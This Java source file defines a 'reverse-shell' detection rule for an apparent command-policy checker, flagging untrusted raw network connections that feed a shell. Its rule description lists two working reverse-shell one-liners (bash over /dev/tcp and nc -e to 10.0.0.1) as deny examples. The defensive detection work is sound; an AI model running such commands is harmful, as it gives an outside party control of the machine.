package dev.cattlegrid.policy.rule;

import dev.cattlegrid.effect.Effect;
import dev.cattlegrid.effect.Source;
import dev.cattlegrid.flow.Flow;
import dev.cattlegrid.flow.Label;
import dev.cattlegrid.policy.About;
import dev.cattlegrid.policy.Facts;
import dev.cattlegrid.policy.Finding;
import dev.cattlegrid.policy.Strength;
import java.util.Optional;

final class ReverseShell extends FlowRule {

    ReverseShell() {
        super(
                Strength.HARD,
                About.of(
                        About.Group.CROSS_A_TRUST_BOUNDARY,
                        """
                        # reverse-shell: a shell would be driven by another machine

                        Its commands come from a network connection, so whoever is at the other end controls this machine.

                        deny: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
                        deny: nc -e /bin/sh 10.0.0.1 4242
                        allow: nc -z localhost 5432
                        """));
    }

    @Override
    Optional<Finding> look(Flow flow, Facts facts) {

        return flow.label() == Label.UNTRUSTED
                        && flow.to() instanceof Effect.Run
                        && isRaw(flow.from())
                ? Optional.of(
                        found(flow, "a shell would take its commands from %s", name(flow.from())))
                : Optional.empty();
    }

    /// A bare connection, over which somebody types rather than serves a file.
    static boolean isRaw(Source source) {
        return source instanceof Source.Network(var endpoint)
                && switch (endpoint.scheme()) {
                    case "tcp",
                            "udp",
                            "nc",
                            "socket",
                            "ssl",
                            "tls",
                            "telnet",
                            "sctp",
                            "openssl",
                            "dns",
                            "icmp" ->
                            true;
                    default -> false;
                };
    }
}
